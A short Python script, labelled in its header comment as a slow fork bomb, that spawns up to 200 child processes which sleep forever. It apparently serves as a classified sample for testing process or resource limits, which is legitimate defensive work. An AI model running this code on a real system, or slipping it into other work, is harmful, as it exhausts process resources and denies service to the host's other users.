# class: fork bomb; possible: low medium; style: slow, children never end
import os
import time

for i in range(200):
    try:
        if os.fork() == 0:
            while True:
                time.sleep(100)
    except OSError:
        pass
    time.sleep(0.2)
